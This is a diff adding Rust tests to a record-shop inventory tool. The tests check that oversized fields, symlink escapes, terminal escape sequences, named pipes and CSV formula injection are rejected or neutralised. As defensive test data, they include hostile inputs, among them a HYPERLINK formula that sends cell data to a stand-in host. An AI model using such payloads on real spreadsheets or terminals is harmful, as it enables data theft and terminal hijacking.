@@ -1,9 +1,12 @@
 //! Tables come into the stock and out of it: every good row once, every bad one told.
 
 use std::fs;
+use std::os::unix::fs::symlink;
 use std::path::{Path, PathBuf};
 
 use serde_json::Value;
+use sleevesight::heat::{ThermalZone, Thermometer};
+use sleevesight::model::{Key, SignedFile};
 use sleevesight::network::Bundle;
 use sleevesight::stock::{Entry, EntryCover, Stock, rows};
 use tempfile::TempDir;
@@ -329,4 +332,84 @@ fn a_command_says_what_it_needs() {
     assert_eq!(out, "#1 Miles Davis: Kind of Blue · Jazz · B3\n");
     shop.stock(&["remove", "1"]);
     assert_eq!(shop.list().len(), 1);
+}
+
+#[test]
+fn a_row_with_a_text_that_is_too_long_is_left_out_and_counted() {
+    let shop = Shop::new();
+    let table = format!("title,note\nA,short\n{},short\nB,{}\n", "T".repeat(501), "n".repeat(4001));
+    let (status, out, err) = shop.import_bare(&table);
+    assert_eq!((status, out.as_str()), (1, "1 added, 0 changed, 0 as before, 2 left out; 1 in stock\n"));
+    assert!(err.contains("line 3: the title has 501 letters, and 500 are the most"), "{err}");
+    assert!(err.contains("line 4: the note has 4001 letters, and 4000 are the most"), "{err}");
+}
+
+#[test]
+fn a_link_that_leads_out_of_the_covers_folder_is_not_followed() {
+    let shop = Shop::new();
+    let covers = shop.path("covers");
+    fs::create_dir(&covers).expect("a folder");
+    let outside = flat().join("jazz-trumpet.jpg");
+    symlink(&outside, covers.join("out.jpg")).expect("a link");
+    symlink(flat(), covers.join("below")).expect("a link");
+    fs::copy(&outside, covers.join("own.jpg")).expect("a copy");
+    symlink("own.jpg", covers.join("in.jpg")).expect("a link");
+    let table = "title,cover\nA,out.jpg\nB,below/jazz-trumpet.jpg\nC,in.jpg\n";
+    let (status, out, err) = shop.import(table, &covers);
+    assert_eq!((status, out.as_str()), (1, "1 added, 0 changed, 0 as before, 2 left out; 1 in stock\n"));
+    assert_eq!(err.matches("is a link that leads out of the covers' folder").count(), 2, "{err}");
+}
+
+#[test]
+fn nothing_of_a_table_does_anything_to_the_terminal() {
+    let shop = Shop::new();
+    let table = "title,year,cover\nA,\"\u{1b}]0;x\u{7}1999x\",a.jpg\nB,1999,\"../\u{1b}[31mx\"\nC,1999,\"no\u{1b}[5m\n<3>file\"\n";
+    let (_, out, err) = shop.import(table, &flat());
+    let (_, added, _) = shop.stock(&["add", "--title", "T\u{1b}]0;x\u{7}", "--genre", "G\u{9b}2J"]);
+    let (_, _, refused) = shop.import("\u{1b}[31mheader\u{1b}]0;x\u{7},b\n", &flat());
+    for text in [out, err, added, refused] {
+        assert!(!text.is_empty());
+        assert!(!text.chars().any(|letter| letter.is_control() && letter != '\n'), "{text:?}");
+        assert!(!text.lines().any(|line| line.starts_with("<3>")), "{text:?}");
+    }
+    let path = shop.path("\u{1b}[31m.jpg");
+    let asked = sleevesight().arg("classify").arg(path).assert().code(1);
+    let text = String::from_utf8(asked.get_output().stderr.clone()).expect("text");
+    assert!(text.contains("there is no such file") && !text.contains('\u{1b}'), "{text:?}");
+}
+
+#[test]
+fn a_pipe_that_nobody_writes_into_is_not_waited_for() {
+    let shop = Shop::new();
+    let pipe = shop.path("pipe");
+    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().expect("mkfifo").success());
+    let (status, _, err) = shop.stock(&["import", &pipe.display().to_string()]);
+    assert!(status == 1 && err.contains("it is no file but a pipe"), "{err}");
+    assert_eq!(ThermalZone::new(&pipe).celsius(), None);
+    let key = "RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3";
+    let key = Key::parse(key).expect("the key of minisign's manual");
+    fs::write(shop.path("pipe.minisig"), "none").expect("the folder takes files");
+    assert!(SignedFile::open(&pipe, std::slice::from_ref(&key)).is_err());
+    fs::remove_file(shop.path("pipe.minisig")).expect("it is there");
+    fs::rename(&pipe, shop.path("model.minisig")).expect("it is there");
+    assert!(SignedFile::open(&shop.path("model"), &[key]).is_err());
+}
+
+#[test]
+fn no_text_of_an_exported_table_is_a_formula() {
+    let shop = Shop::new();
+    let title = "=HYPERLINK(\"http://a.b/?\"&A1)";
+    shop.stock(&["add", "--title", title, "--artist", "@SUM(1)", "--note=-1+1", "--genre", "'+1"]);
+    let out = shop.path("out");
+    let (status, _, err) = shop.stock(&["export", &out.display().to_string()]);
+    assert_eq!(status, 0, "{err}");
+    let table = fs::read_to_string(out.join("stock.csv")).expect("a table");
+    let mut reader = csv::Reader::from_reader(table.as_bytes());
+    for field in reader.records().next().expect("a row").expect("fields").iter() {
+        assert!(!field.starts_with(['=', '+', '-', '@']), "{table}");
+    }
+    let before = shop.list();
+    let (_, again, _) = shop.stock(&["import", &out.join("stock.csv").display().to_string()]);
+    assert_eq!(again, "0 added, 0 changed, 1 as before, 0 left out; 1 in stock\n");
+    assert_eq!(shop.list(), before);
 }
